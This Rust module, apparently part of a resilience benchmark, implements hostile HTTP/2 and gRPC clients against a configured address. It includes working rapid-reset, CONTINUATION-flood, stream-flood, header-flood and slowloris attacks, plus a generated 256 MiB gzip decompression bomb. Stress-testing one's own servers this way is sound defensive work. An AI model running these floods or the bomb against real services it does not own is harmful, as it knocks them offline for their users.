//! Hostile HTTP/2 clients, written frame by frame over plain TCP (a real
//! HTTP/2 library refuses to misbehave): rapid reset (CVE-2023-44487),
//! CONTINUATION flood (CVE-2024-27316 and kin), stream and header floods,
//! slowloris connections, oversized and compressed-bomb gRPC messages. Each
//! runs for a bounded time against one address and reports what it sent and
//! how the server answered; the server's memory and a legitimate client's
//! latency are measured around it by `bench/hostile.sh`.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

#[derive(Clone, Copy, Debug, Serialize, clap::ValueEnum)]
pub enum Attack {
    /// HEADERS then RST_STREAM at once, as fast as the socket takes them.
    RapidReset,
    /// One HEADERS without END_HEADERS, then CONTINUATION frames forever.
    Continuation,
    /// Streams opened and never finished, past the concurrency limit.
    StreamFlood,
    /// Requests with header blocks far past any sane size.
    HeaderFlood,
    /// Many connections, each trickling a request's headers a byte at a time.
    Slowloris,
    /// A gRPC message announcing 4 GiB, then trickling.
    Oversized,
    /// A gzip message (1.7 MB, under the 4 MiB limit) that inflates to 256 MiB.
    CompressionBomb,
}

#[derive(Debug, Default, Serialize)]
pub struct AttackReport {
    pub attack: String,
    pub seconds: f64,
    pub connections: u64,
    pub frames_sent: u64,
    pub bytes_sent: u64,
    /// Connections the server ended (GOAWAY or close) before we did.
    pub closed_by_server: u64,
    pub goaway_frames: u64,
    pub rst_stream_frames: u64,
    /// Connections refused or failed to open.
    pub connect_errors: u64,
}

#[derive(Default)]
struct Counters {
    connections: AtomicU64,
    frames: AtomicU64,
    bytes: AtomicU64,
    closed_by_server: AtomicU64,
    goaway: AtomicU64,
    rst: AtomicU64,
    connect_errors: AtomicU64,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK string, no Huffman; lengths under 127 only in one byte.
fn hpack_string(out: &mut Vec<u8>, value: &[u8]) {
    hpack_integer(out, 0x00, 7, value.len());
    out.extend_from_slice(value);
}

fn hpack_integer(out: &mut Vec<u8>, first: u8, prefix: u8, value: usize) {
    let max = (1usize << prefix) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A literal header field without indexing, new name.
fn hpack_literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_string(out, name);
    hpack_string(out, value);
}

/// The header block of a gRPC call to `path`, with `extra` fields.
fn request_headers(authority: &str, path: &str, extra: &[(&str, &str)]) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    // :path and :authority: literal without indexing, indexed names 4 and 1.
    hpack_integer(&mut block, 0x00, 4, 4);
    hpack_string(&mut block, path.as_bytes());
    hpack_integer(&mut block, 0x00, 4, 1);
    hpack_string(&mut block, authority.as_bytes());
    hpack_literal(&mut block, b"content-type", b"application/grpc");
    hpack_literal(&mut block, b"te", b"trailers");
    for (name, value) in extra {
        hpack_literal(&mut block, name.as_bytes(), value.as_bytes());
    }
    block
}

const PATH: &str = "/trellis.auth.v1.AuthService/WhoAmI";

/// A connection that has sent its preface and settings; a reader task
/// counts what the server sends back and notices when it closes.
struct Connection {
    write: tokio::net::tcp::OwnedWriteHalf,
    reader: tokio::task::JoinHandle<()>,
    closed: Arc<std::sync::atomic::AtomicBool>,
}

impl Connection {
    async fn open(address: SocketAddr, counters: &Arc<Counters>) -> Option<Connection> {
        let stream =
            match tokio::time::timeout(Duration::from_secs(3), TcpStream::connect(address)).await {
                Ok(Ok(stream)) => stream,
                _ => {
                    counters.connect_errors.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    return None;
                }
            };
        let _ = stream.set_nodelay(true);
        counters.connections.fetch_add(1, Ordering::Relaxed);
        let (mut read, write) = stream.into_split();
        let closed = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let reader = {
            let (counters, closed) = (counters.clone(), closed.clone());
            tokio::spawn(async move {
                let mut buffer = vec![0u8; 64 * 1024];
                let mut pending: Vec<u8> = Vec::new();
                loop {
                    match read.read(&mut buffer).await {
                        Ok(0) | Err(_) => break,
                        Ok(n) => pending.extend_from_slice(&buffer[..n]),
                    }
                    // Count whole frames; keep a partial one for the next read.
                    while pending.len() >= 9 {
                        let length =
                            u32::from_be_bytes([0, pending[0], pending[1], pending[2]]) as usize;
                        if pending.len() < 9 + length {
                            break;
                        }
                        match pending[3] {
                            GOAWAY => {
                                counters.goaway.fetch_add(1, Ordering::Relaxed);
                            }
                            RST_STREAM => {
                                counters.rst.fetch_add(1, Ordering::Relaxed);
                            }
                            _ => {}
                        }
                        pending.drain(..9 + length);
                    }
                }
                closed.store(true, Ordering::Relaxed);
            })
        };
        let mut connection = Connection {
            write,
            reader,
            closed,
        };
        let mut hello = PREFACE.to_vec();
        hello.extend(frame(SETTINGS, 0, 0, &[]));
        hello.extend(frame(SETTINGS, 0x1, 0, &[])); // ACK of the server's
        connection
            .send(&hello, 3, counters)
            .await
            .then_some(connection)
    }

    async fn send(&mut self, bytes: &[u8], frames: u64, counters: &Counters) -> bool {
        if self.closed.load(Ordering::Relaxed) {
            return false;
        }
        match tokio::time::timeout(Duration::from_secs(5), self.write.write_all(bytes)).await {
            Ok(Ok(())) => {
                counters.frames.fetch_add(frames, Ordering::Relaxed);
                counters
                    .bytes
                    .fetch_add(bytes.len() as u64, Ordering::Relaxed);
                true
            }
            _ => false,
        }
    }

    fn finish(self, counters: &Counters) {
        if self.closed.load(Ordering::Relaxed) {
            counters.closed_by_server.fetch_add(1, Ordering::Relaxed);
        }
        self.reader.abort();
    }
}

/// Runs `attack` against `address` for `duration` with `connections`
/// attackers at once.
pub async fn run(
    attack: Attack,
    address: SocketAddr,
    duration: Duration,
    connections: usize,
) -> AttackReport {
    let counters = Arc::new(Counters::default());
    let started = Instant::now();
    let until = started + duration;
    let authority = address.to_string();
    let mut attackers = JoinSet::new();
    for _ in 0..connections.max(1) {
        let (counters, authority) = (counters.clone(), authority.clone());
        attackers.spawn(async move {
            while Instant::now() < until {
                let Some(connection) = Connection::open(address, &counters).await else {
                    continue;
                };
                let connection =
                    one_connection(attack, connection, &authority, until, &counters).await;
                connection.finish(&counters);
            }
        });
    }
    while attackers.join_next().await.is_some() {}
    let load = |c: &AtomicU64| c.load(Ordering::Relaxed);
    AttackReport {
        attack: format!("{attack:?}"),
        seconds: started.elapsed().as_secs_f64(),
        connections: load(&counters.connections),
        frames_sent: load(&counters.frames),
        bytes_sent: load(&counters.bytes),
        closed_by_server: load(&counters.closed_by_server),
        goaway_frames: load(&counters.goaway),
        rst_stream_frames: load(&counters.rst),
        connect_errors: load(&counters.connect_errors),
    }
}

/// One connection's worth of the attack; returns when the server closed it
/// or time is up.
async fn one_connection(
    attack: Attack,
    mut connection: Connection,
    authority: &str,
    until: Instant,
    counters: &Counters,
) -> Connection {
    let headers = request_headers(authority, PATH, &[]);
    let mut stream_id: u32 = 1;
    let mut next_stream = || {
        let id = stream_id;
        stream_id = stream_id.wrapping_add(2);
        id
    };
    match attack {
        Attack::RapidReset => {
            while Instant::now() < until {
                // Batches of 100 pairs per write: as fast as a socket goes.
                let mut batch = Vec::with_capacity(100 * (headers.len() + 40));
                for _ in 0..100 {
                    let id = next_stream();
                    batch.extend(frame(HEADERS, END_HEADERS, id, &headers));
                    batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
                }
                if !connection.send(&batch, 200, counters).await {
                    break;
                }
            }
        }
        Attack::Continuation => {
            let id = next_stream();
            if connection
                .send(&frame(HEADERS, 0, id, &headers), 1, counters)
                .await
            {
                let mut block = Vec::new();
                for n in 0..400 {
                    hpack_literal(
                        &mut block,
                        format!("x-flood-{n}").as_bytes(),
                        b"aaaaaaaaaaaaaaaaaaaaaaaa",
                    );
                }
                let continuation = frame(CONTINUATION, 0, id, &block);
                while Instant::now() < until && connection.send(&continuation, 1, counters).await {}
            }
        }
        Attack::StreamFlood => {
            // Streams that never send their message: each holds a slot
            // until the server's limits or timeouts end it.
            while Instant::now() < until {
                let mut batch = Vec::new();
                for _ in 0..50 {
                    batch.extend(frame(HEADERS, END_HEADERS, next_stream(), &headers));
                }
                if !connection.send(&batch, 50, counters).await {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
        Attack::HeaderFlood => {
            let big = "b".repeat(4000);
            let extra: Vec<(String, &str)> = (0..60)
                .map(|n| (format!("x-big-{n}"), big.as_str()))
                .collect();
            let extra: Vec<(&str, &str)> = extra.iter().map(|(n, v)| (n.as_str(), *v)).collect();
            let block = request_headers(authority, PATH, &extra);
            // ~240 KB of headers per request, in 16 KB frames.
            while Instant::now() < until {
                let id = next_stream();
                let mut bytes = Vec::new();
                let chunks: Vec<&[u8]> = block.chunks(16_000).collect();
                for (i, chunk) in chunks.iter().enumerate() {
                    let last = i + 1 == chunks.len();
                    let kind = if i == 0 { HEADERS } else { CONTINUATION };
                    let flags = if last { END_HEADERS | END_STREAM } else { 0 };
                    bytes.extend(frame(kind, flags, id, chunk));
                }
                if !connection.send(&bytes, chunks.len() as u64, counters).await {
                    break;
                }
            }
        }
        Attack::Slowloris => {
            // Already sent the preface; now a stream's headers a byte at a time.
            let request = frame(HEADERS, END_HEADERS, next_stream(), &headers);
            for byte in request {
                if Instant::now() >= until || !connection.send(&[byte], 0, counters).await {
                    break;
                }
                tokio::time::sleep(Duration::from_secs(2)).await;
            }
            while Instant::now() < until && !connection.closed.load(Ordering::Relaxed) {
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
        }
        Attack::Oversized => {
            while Instant::now() < until {
                let id = next_stream();
                let mut bytes = frame(HEADERS, END_HEADERS, id, &headers);
                // Uncompressed, 4 GiB - 1 announced, 16 KB sent.
                let mut message = vec![0u8, 0xff, 0xff, 0xff, 0xff];
                message.extend(std::iter::repeat_n(0u8, 16_000));
                bytes.extend(frame(DATA, 0, id, &message));
                if !connection.send(&bytes, 2, counters).await {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
        Attack::CompressionBomb => {
            let headers = request_headers(authority, PATH, &[("grpc-encoding", "gzip")]);
            let bomb = gzip_bomb().as_slice();
            let mut message = vec![1u8];
            message.extend_from_slice(&(bomb.len() as u32).to_be_bytes());
            message.extend_from_slice(bomb);
            while Instant::now() < until {
                let id = next_stream();
                let mut bytes = frame(HEADERS, END_HEADERS, id, &headers);
                let chunks: Vec<&[u8]> = message.chunks(16_000).collect();
                for (i, chunk) in chunks.iter().enumerate() {
                    let flags = if i + 1 == chunks.len() { END_STREAM } else { 0 };
                    bytes.extend(frame(DATA, flags, id, chunk));
                }
                if !connection
                    .send(&bytes, 1 + chunks.len() as u64, counters)
                    .await
                {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
    }
    connection
}

/// gzip of 256 MiB of zeros: one fixed-Huffman deflate block repeating a
/// zero byte with maximal back-references. About 1.7 MB; a server that
/// inflated it would hold 256 MiB. Made once.
fn gzip_bomb() -> &'static Vec<u8> {
    static BOMB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    BOMB.get_or_init(make_gzip_bomb)
}

fn make_gzip_bomb() -> Vec<u8> {
    // One fixed-Huffman deflate block: a literal 0, then 258-byte matches at
    // distance 1, then end of block. Matches of 258 are code 285 (8 bits:
    // 11000101) with distance code 0 (5 bits: 00000).
    let target: u64 = 256 << 20;
    let matches = (target - 1) / 258;
    let mut bits = BitWriter::default();
    bits.push(1, 1); // BFINAL
    bits.push(0b01, 2); // fixed Huffman
    bits.push_code(0b0011_0000, 8); // literal 0
    for _ in 0..matches {
        bits.push_code(0b1100_0101, 8); // length 258
        bits.push_code(0, 5); // distance 1
    }
    bits.push_code(0, 7); // end of block (256)
    let deflate = bits.finish();
    let produced = 1 + matches * 258;
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    out.extend_from_slice(&deflate);
    // CRC32 of the output, then its size mod 2^32.
    out.extend_from_slice(&crc32_of_zeros(produced).to_le_bytes());
    out.extend_from_slice(&(produced as u32).to_le_bytes());
    out
}

#[derive(Default)]
struct BitWriter {
    bytes: Vec<u8>,
    current: u32,
    filled: u32,
}

impl BitWriter {
    /// Value bits, least significant first (deflate's header fields).
    fn push(&mut self, value: u32, count: u32) {
        for i in 0..count {
            self.current |= ((value >> i) & 1) << self.filled;
            self.filled += 1;
            if self.filled == 8 {
                self.bytes.push(self.current as u8);
                self.current = 0;
                self.filled = 0;
            }
        }
    }

    /// Huffman codes go most significant bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        for i in (0..count).rev() {
            self.push((code >> i) & 1, 1);
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.filled > 0 {
            self.bytes.push(self.current as u8);
        }
        self.bytes
    }
}

fn crc32_of_zeros(length: u64) -> u32 {
    let mut table = [0u32; 256];
    for (i, entry) in table.iter_mut().enumerate() {
        let mut c = i as u32;
        for _ in 0..8 {
            c = if c & 1 == 1 {
                0xedb8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
        }
        *entry = c;
    }
    let mut crc = 0xffff_ffffu32;
    for _ in 0..length {
        crc = table[(crc & 0xff) as usize] ^ (crc >> 8);
    }
    !crc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_the_wire_layout() {
        let bytes = frame(RST_STREAM, 0, 3, &8u32.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn hpack_integers_continue_past_their_prefix() {
        let mut out = Vec::new();
        hpack_integer(&mut out, 0, 5, 1337);
        assert_eq!(out, [31, 154, 10]); // RFC 7541, C.1.2
    }
}
